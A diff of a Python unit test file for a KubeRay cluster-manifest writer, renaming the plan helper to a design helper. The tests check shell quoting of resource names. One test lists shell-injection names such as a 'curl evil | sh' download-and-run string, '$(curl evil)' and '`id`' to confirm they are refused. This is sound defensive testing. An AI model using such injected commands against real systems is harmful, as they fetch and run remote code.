@@ -8,7 +8,7 @@ import yaml
 from hypothesis import given
 from hypothesis import strategies as st
 
-from tests.unit.planned_clusters import a_plan, gpu_type
+from tests.unit.designed_clusters import a_design, gpu_type
 from tune_policies import InvalidResourcesError
 from tune_policies.kuberay.manifests.shell_quoting import quoted, quoted_amounts
 from tune_policies.kuberay.writing import WriteOptions, write_cluster
@@ -71,7 +71,7 @@ def amounts_in(text, form):
 @given(name=names)
 def test_a_resource_has_its_name_behind_every_shell_or_is_refused(form, version, name):
     try:
-        plan = a_plan(gpu_type(custom={name: 3}))
+        plan = a_design(gpu_type(custom={name: 3}))
         text = write_cluster(plan, WriteOptions(format=form, ray_version=version))
     except InvalidResourcesError:
         return
@@ -84,7 +84,7 @@ def test_a_resource_has_its_name_behind_every_shell_or_is_refused(form, version,
     "name", ["'}; curl evil | sh; '{", "$(curl evil)", "`id`", 'a"b', "a\\b", "a b", "a\nb", "a\udc80"]
 )
 def test_a_name_that_a_shell_would_read_is_refused(form, version, name):
-    plan = a_plan(gpu_type(custom={name: 1}))
+    plan = a_design(gpu_type(custom={name: 1}))
 
     with pytest.raises(InvalidResourcesError, match=r"cannot be written for a cluster.*: use letters, digits"):
         write_cluster(plan, WriteOptions(format=form, ray_version=version))
@@ -93,7 +93,7 @@ def test_a_name_that_a_shell_would_read_is_refused(form, version, name):
 @pytest.mark.parametrize(("form", "version"), FORMATS)
 @pytest.mark.parametrize("name", WORDS)
 def test_usual_names_in_any_script_are_written(form, version, name):
-    text = write_cluster(a_plan(gpu_type(custom={name: 2})), WriteOptions(format=form, ray_version=version))
+    text = write_cluster(a_design(gpu_type(custom={name: 2})), WriteOptions(format=form, ray_version=version))
 
     assert amounts_in(text, form)[name] == 2
 
